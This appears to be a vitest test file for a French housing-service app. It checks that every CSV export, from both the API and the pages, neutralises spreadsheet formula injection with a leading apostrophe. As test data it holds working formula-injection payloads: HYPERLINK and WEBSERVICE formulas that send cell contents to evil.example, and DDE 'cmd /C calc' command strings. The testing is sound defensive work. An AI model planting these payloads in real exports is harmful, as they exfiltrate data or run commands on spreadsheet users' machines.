// CSV exports neutralise formula injection (OWASP « CSV Injection »): a text cell starting with = + - @ (or a tab or
// a line break before one) gets a leading apostrophe, so a spreadsheet shows it instead of running it; a signed
// number or phone number stays as it is. The rule (src/platform/csv), then every CSV export — of the API and of the
// pages — fed with hostile names through the ordinary ways in, read back with a CSV parser.
// The API's zod extension first, as the server loads it, before the pages' modules build their schemas.
import '@hono/zod-openapi';
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { loader as chargesPage } from '../../app/routes/charge-month-csv.ts';
import { loader as renewalsPage } from '../../app/routes/coordination-renewals-csv.ts';
import { loader as facilitiesPage } from '../../app/routes/facilities-export.ts';
import { loader as impactPage } from '../../app/routes/impact-export-csv.ts';
import { loader as openDataPage } from '../../app/routes/open-data-csv.ts';
import { loader as rolloutPage } from '../../app/routes/rollout-plan-csv.ts';
import { openService } from '../../src/access/index.ts';
import { createAgreement } from '../../src/coordination/index.ts';
import { csvCell, neutraliseFormula, parseCsv, restoreFormula } from '../../src/platform/csv/index.ts';
import { localDate } from '../../src/platform/dates.ts';
import type { Db } from '../../src/platform/db/index.ts';
import { clientIpContext, servicesContext } from '../../src/platform/http/index.ts';
import type { Role } from '../../src/platform/permissions/index.ts';
import { createSector, importDwellings } from '../../src/territory/index.ts';
import { adoptSector } from '../adopt.ts';
import { testDatabase } from '../database.ts';
import { buildProgramme, type TestProgramme } from '../programme.ts';
import { apiAs, sessionCookie, testServices } from '../services.ts';

describe('neutraliseFormula and csvCell', () => {
  it.each([
    // [cell, neutralised, as a `;` CSV cell]
    ['=1+1', "'=1+1", "'=1+1"],
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      `'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`,
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+cmd|calc', "'+1+cmd|calc", "'+1+cmd|calc"],
    ['-2+3', "'-2+3", "'-2+3"],
    ['-1-1', "'-1-1", "'-1-1"],
    ['@SUM(1+1)', "'@SUM(1+1)", "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1", "'\t=1+1"],
    ['\r=1+1', "'\r=1+1", `"'\r=1+1"`],
    ['\n=1+1', "'\n=1+1", `"'\n=1+1"`],
    ['  =1+1', "'  =1+1", "'  =1+1"],
    ['\u00a0@x', "'\u00a0@x", "'\u00a0@x"],
    ['-', "'-", "'-"],
    ['+', "'+", "'+"],
    ['-1e5', "'-1e5", "'-1e5"],
    ['+33 6 12 34 56 78 ; =1', "'+33 6 12 34 56 78 ; =1", `"'+33 6 12 34 56 78 ; =1"`],
    // Signed numbers and phone numbers: nothing in them can call a function or name a cell.
    ['-12,50', '-12,50', '-12,50'],
    ['-4.4861', '-4.4861', '-4.4861'],
    ['-1\u202f234,56', '-1\u202f234,56', '-1\u202f234,56'],
    ['+33612345678', '+33612345678', '+33612345678'],
    ['+33 6 12 34 56 78', '+33 6 12 34 56 78', '+33 6 12 34 56 78'],
    ['+33 (0)6 12 34 56 78', '+33 (0)6 12 34 56 78', '+33 (0)6 12 34 56 78'],
    // Ordinary text, and what only looks dangerous further in.
    ['Kerourien', 'Kerourien', 'Kerourien'],
    ['a=1', 'a=1', 'a=1'],
    ['12 rue de la Paix', '12 rue de la Paix', '12 rue de la Paix'],
    ["L'Ermitage", "L'Ermitage", "L'Ermitage"],
    ['', '', ''],
    ['dit "Le Phare"; Brest', 'dit "Le Phare"; Brest', '"dit ""Le Phare""; Brest"'],
  ])('%j → %j', (cell, neutralised, asCell) => {
    expect(neutraliseFormula(cell)).toBe(neutralised);
    expect(csvCell(cell)).toBe(asCell);
    // Palier's own imports of a file it wrote read the cell back as it was.
    expect(restoreFormula(neutralised)).toBe(cell);
  });

  it('leaves a cell unchanged only when it is text, or a signed number or phone number', () => {
    for (const trigger of ['=', '+', '-', '@', '\t', '\r', '\n', ' =', '\u00a0+', ' -'])
      for (const rest of [
        '',
        '1',
        'A1',
        'SUM(1)',
        "cmd|' /C calc'!A0",
        '1+1',
        '(1)',
        '1,2',
        ' 6 12',
        '1e3',
      ]) {
        const cell = `${trigger}${rest}`;
        const number = /^[+-][\d .,()]*\d[\d .,()]*$/.test(cell.replace(/^[ \u00a0]+/, ''));
        expect(neutraliseFormula(cell), JSON.stringify(cell)).toBe(number ? cell : `'${cell}`);
      }
  });
});

// ---- Every CSV export ----

let db: Db;
let p: TestProgramme;
let call: Awaited<ReturnType<typeof apiAs>>['call'];
let services: ReturnType<typeof testServices>;
const cookies = {} as Record<Role, string>;

const day = 86_400_000;
const today = localDate(new Date());
const monthOf = (offset: number) => {
  const [y, m] = today.split('-').map(Number) as [number, number];
  return new Date(Date.UTC(y, m - 1 + offset, 1)).toISOString().slice(0, 7);
};
const lastMonth = monthOf(-1);

/** Hostile names, each through a different way in. */
const hostile = {
  address: '=2+5 rue de la Formule',
  contactName: '@SUM(1+1)',
  facility: '=HYPERLINK("http://evil.example/?"&A1,"Lieu")',
  sector: "+cmd|' /C calc'!A0",
  servedSector: '@Kerourien()',
  reference: '-1+CONV',
  object: '=WEBSERVICE("http://evil.example/")',
};

beforeAll(async () => {
  ({ db } = await testDatabase());
  p = await buildProgramme(db, 'csv');
  ({ call } = await apiAs(db, p.actors));
  services = testServices(db);
  for (const role of ['coordinator', 'landlord_officer'] as const)
    cookies[role] = await sessionCookie(services, p.emails[role]);
  // A dwelling of N1 whose address is a formula, before N1 adopts the service (its charges name it).
  const imported = await importDwellings({
    db,
    actor: p.system,
    file: `reference_logement;adresse;code_postal;code_insee;reference_batiment;secteur\nL-666;${hostile.address};29200;29019;B-9;N1`,
  });
  if (!imported.imported) throw new Error(JSON.stringify(imported.errors));
  await adoptSector(db, p, p.sectorIds.N1, {
    tariffFrom: `${monthOf(-3)}-01`,
    opensAt: new Date(Date.now() - 200 * day),
  });
  const opened = await openService({
    db,
    actor: p.actors.landlord_officer,
    input: { sectorId: p.sectorIds.N1, description: 'Internet collectif', opensOn: `${monthOf(-3)}-01` },
  });
  if (!opened.ok) throw new Error(opened.reason);
  expect((await call('landlord_officer', `/charges/${lastMonth}/run`, { method: 'POST' })).status).toBe(200);
  // An activation request whose contact name is a formula, and a phone number that must stay one.
  const requested = await call(
    'landlord_officer',
    `/households/${p.households['L-001']}/activation-requests`,
    {
      json: {
        contactName: hostile.contactName,
        contactPhone: '06 12 34 56 78',
        slots: ['weekday_morning'],
        consent: true,
      },
    },
  );
  expect(requested.status).toBe(201);
  // A facility, a sector and an agreement named as formulas.
  const facility = await call('coordinator', '/facilities', {
    json: {
      name: hostile.facility,
      address: '1 rue de Test',
      postcode: '29200',
      commune: 'Brest',
      computers: 2,
      phone: '+33 2 98 00 00 00',
    },
  });
  expect(facility.status).toBe(201);
  const sector = await createSector({
    db,
    actor: p.system,
    // Identified two years ago: the open data covers complete calendar years only.
    input: {
      code: 'X9',
      name: hostile.sector,
      neighbourhoodId: await neighbourhoodOf(p.sectorIds.N1),
      identifiedOn: `${Number(today.slice(0, 4)) - 2}-01-01`,
    },
  });
  if (!sector.ok) throw new Error('sector');
  // The figures show the sectors with a service, each as « code — name »: N1 gets a hostile name too (no page renames
  // a sector; the fixture does).
  await db.execute(sql`update sector set name = ${hostile.servedSector} where id = ${p.sectorIds.N1}`);
  const agreement = await createAgreement({
    db,
    actor: p.actors.coordinator,
    input: {
      organisationId: p.actors.facilitator.organisationId!,
      reference: hostile.reference,
      object: hostile.object,
      startsOn: localDate(new Date(Date.now() - 300 * day)),
      endsOn: localDate(new Date(Date.now() + 20 * day)),
      amountCents: 100_000,
      noticeDays: 90,
    },
  } as never);
  if (!(agreement as { ok: boolean }).ok) throw new Error(JSON.stringify(agreement));
}, 120_000);

async function neighbourhoodOf(sectorId: number) {
  const [row] = (await db.execute(
    sql`select neighbourhood_id from sector where id = ${sectorId}`,
  )) as unknown as {
    neighbourhood_id: number;
  }[];
  return row!.neighbourhood_id;
}

/** The cells of a CSV file, as a spreadsheet's import would split them. */
async function cells(response: Response): Promise<string[]> {
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
  const { headers, records } = parseCsv(Buffer.from(await response.arrayBuffer()));
  return [...headers, ...records.flatMap((r) => Object.values(r.values))];
}

/**
 * What a spreadsheet would run, said independently of the code under test: a cell starting (after spaces) with
 * = + - @, a tab or a line break, unless it is only a signed number or phone number.
 */
const runnable = (cell: string) => {
  const start = cell.replace(/^[ \u00a0\u202f]+/, '');
  return /^[=+\-@\t\r\n]/.test(start) && !/^[+-][\d .,()\u00a0\u202f]*\d[\d .,()\u00a0\u202f]*$/.test(start);
};

/** The hostile text is in the file; no cell of the file would run; a cell that is the text is neutralised. */
function expectNeutralised(all: string[], text: string) {
  expect(
    all.some((c) => c.includes(text)),
    `« ${text} » in the file`,
  ).toBe(true);
  expect(all.filter(runnable)).toEqual([]);
  for (const cell of all.filter((c) => c.endsWith(text) && c.length <= text.length + 1))
    expect(cell).toBe(`'${text}`);
}

const context = () => {
  const values = new Map<unknown, unknown>([
    [servicesContext, services],
    [clientIpContext, '127.0.0.1'],
  ]);
  return { get: (key: unknown) => values.get(key) };
};
const page = (role: Role | null, path: string, params: Record<string, string> = {}) =>
  ({
    request: new Request(`http://palier.test${path}`, { headers: role ? { cookie: cookies[role] } : {} }),
    params,
    context: context(),
  }) as never;

describe('the API’s CSV exports', () => {
  it('GET /charges/{month}/lines.csv', async () => {
    expectNeutralised(
      await cells(await call('landlord_officer', `/charges/${lastMonth}/lines.csv`)),
      hostile.address,
    );
  });

  it('GET /activation-requests.csv: the contact name neutralised, the phone number left a number', async () => {
    const all = await cells(await call('landlord_officer', '/activation-requests.csv'));
    expectNeutralised(all, hostile.contactName);
    expect(all).toContain('+33612345678');
  });

  it('GET /facilities/export.csv (the national standard’s file): the name neutralised, the phone left as it is', async () => {
    const all = await cells(await call('coordinator', '/facilities/export.csv'));
    expectNeutralised(all, hostile.facility);
    expect(all).toContain('+33298000000');
  });

  it('GET /roll-out/plan?format=csv', async () => {
    expectNeutralised(await cells(await call('coordinator', '/roll-out/plan?format=csv')), hostile.sector);
  });

  it('GET /indicators?format=csv', async () => {
    expectNeutralised(
      await cells(
        await call('coordinator', `/indicators?format=csv&table=sectors&from=${monthOf(-6)}-01&to=${today}`),
      ),
      hostile.servedSector,
    );
  });

  it('GET /open-data?format=csv', async () => {
    expectNeutralised(await cells(await call(null, '/open-data?format=csv&programme=csv')), hostile.sector);
  });
});

describe('the pages’ CSV exports', () => {
  it('charges/:month/lignes.csv', async () => {
    const response = (await chargesPage(
      page('landlord_officer', `/charges/${lastMonth}/lignes.csv`, { month: lastMonth }),
    )) as Response;
    expectNeutralised(await cells(response), hostile.address);
  });

  it('lieux/export.csv', async () => {
    expectNeutralised(
      await cells((await facilitiesPage(page('coordinator', '/lieux/export.csv'))) as Response),
      hostile.facility,
    );
  });

  it('deploiement/calendrier.csv', async () => {
    expectNeutralised(
      await cells((await rolloutPage(page('coordinator', '/deploiement/calendrier.csv'))) as Response),
      hostile.sector,
    );
  });

  it('impact/export.csv', async () => {
    const response = await impactPage(
      page('coordinator', `/impact/export.csv?table=sectors&du=${monthOf(-6)}-01&au=${today}`),
    );
    expectNeutralised(await cells(response as Response), hostile.servedSector);
  });

  it('donnees-ouvertes/impact.csv', async () => {
    expectNeutralised(
      await cells(await openDataPage(page(null, '/donnees-ouvertes/impact.csv?programme=csv'))),
      hostile.sector,
    );
  });

  it('coordination/conventions/renouvellements.csv', async () => {
    const all = await cells(
      (await renewalsPage(page('coordinator', '/coordination/conventions/renouvellements.csv'))) as Response,
    );
    expectNeutralised(all, hostile.reference);
    expectNeutralised(all, hostile.object);
  });
});
